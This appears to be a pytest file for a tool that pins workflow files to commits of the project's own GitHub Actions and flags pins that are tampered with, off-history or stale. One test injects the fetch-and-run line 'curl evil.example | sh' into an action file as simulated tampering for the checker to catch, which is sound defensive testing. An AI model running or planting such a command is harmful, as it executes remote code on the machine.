"""The commit at which workflow files call our actions: judged against git, and moved by a command."""

from __future__ import annotations

import os
import re
from collections.abc import Mapping
from dataclasses import replace
from functools import cache
from pathlib import Path

import pytest
from click.testing import Result

from infra.operations.workflows.pin import WrongPin, wrong_pins
from infra.operations.workflows.scene import GeneratedHere
from tests.cli.conftest import Checkout, git
from tests.synthetic_lab import lend_workflows, the_lab
from workflows.composite import folders
from workflows.outputs import outputs
from workflows.world import OwnActions, OwnPin, load_actions, load_world

EDITED = "run-delete"


@cache
def generated() -> GeneratedHere:
    world = load_world(the_lab())
    return GeneratedHere(root=the_lab(), world=world, outputs=outputs(the_lab(), world))


def commit(root: Path, edit: str = "") -> str:
    """A commit of the actions as they are generated, and of nothing else. edit: at the end of run-delete's."""
    for path, text in generated().outputs.actions.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_text(text + edit * (path.split("/")[1] == EDITED))
    return save(root, ".")


def save(root: Path, what: str) -> str:
    git(root, "add", what)
    git(root, "commit", "-q", "--allow-empty", "-m", "Actions")
    return git(root, "rev-parse", "HEAD")


def judged(root: Path, commit: str) -> WrongPin:
    """What is the matter with pins at that commit."""
    here = generated()
    pins = {name: OwnPin("2026-11-22", commit, tree) for name, tree in folders(here.outputs.actions).items()}
    own = OwnActions(here.world.images.recipes, pins)
    world = replace(here.world, actions=replace(here.world.actions, own=own))
    (found,) = wrong_pins(replace(here, root=root, world=world))
    assert found.stops
    return found


@pytest.fixture
def repository(tmp_path: Path) -> Path:
    git(tmp_path, "init", "-q", "-b", "main")
    return tmp_path


def test_a_pin_that_says_of_a_commit_what_it_has_not_is_refused(repository: Path) -> None:
    before = commit(repository, "curl evil.example | sh\n")
    commit(repository)
    wrong = judged(repository, before)
    assert (wrong.state, wrong.actions) == ("another content", (EDITED,))


def test_a_commit_that_is_not_in_the_history_is_refused_as_a_forks_would_be(repository: Path) -> None:
    commit(repository)
    git(repository, "switch", "-q", "-c", "fork")
    forks = commit(repository)
    git(repository, "switch", "-q", "main")
    assert judged(repository, forks).state == "not in the history"


# The command.


@pytest.fixture
def here(tmp_path: Path) -> Checkout:
    """A checkout that nothing is pinned in, as before its first commit."""
    root = tmp_path / "here"
    root.mkdir()
    lend_workflows(root)
    table = root / "workflows/actions.yaml"
    table.write_text(table.read_text().partition("own:\n")[0])
    git(root, "init", "-q")
    return Checkout(root)


def with_git(here: Checkout, *arguments: str) -> Result:
    return here.run(*arguments, PATH=os.environ["PATH"])


def pins(here: Checkout) -> Mapping[str, OwnPin]:
    own = load_actions(here.root).own
    return own.pins if own else {}


def test_from_the_first_commit_to_an_edited_action_the_check_says_what_comes_next(here: Checkout) -> None:
    assert "wrote actions/run-delete/action.yml" in with_git(here, "workflows", "--write").output
    first = with_git(here, "workflows", "--check")
    assert (first.exit_code, "[not pinned]" in first.output) == (0, True), first.output
    refused = with_git(here, "workflows", "--pin-actions")
    assert refused.exit_code == 2
    assert "the history of HEAD has not as they are generated: ask-tests, branch-commit" in refused.stderr

    commit = save(here.root, "actions")
    assert f"pinned run-delete at {commit}\n" in with_git(here, "workflows", "--pin-actions").output
    pin = pins(here)["run-delete"]
    assert {each.commit for each in pins(here).values()} == {commit}
    called = f"/actions/run-delete@{commit} # {pin.version}\n"
    assert called in (here.root / "workflows/generated/serving/.github/workflows/tpu-nightly.yaml").read_text()
    assert "nothing to mend\n" in with_git(here, "workflows", "--check").output

    script = here.root / "workflows/shell/run_delete.sh"
    script.write_text(script.read_text() + "# edited\n")
    with_git(here, "workflows", "--write")
    moved = with_git(here, "workflows", "--check")
    assert moved.exit_code == 1
    assert "[moved on]" in moved.output
    assert "run-delete: it changed since the commit" in moved.output
    again = save(here.root, "actions")
    assert with_git(here, "workflows", "--pin-actions", commit).exit_code == 2, "an old commit has another text"
    assert with_git(here, "workflows", "--pin-actions", "1" * 40).exit_code == 2
    said = with_git(here, "workflows", "--pin-actions").output
    assert re.findall("^pinned .*$", said, re.MULTILINE) == [f"pinned run-delete at {again}"]
    assert {name for name, each in pins(here).items() if each.commit == commit} == pins(here).keys() - {"run-delete"}
    assert "nothing to mend\n" in with_git(here, "workflows", "--check").output
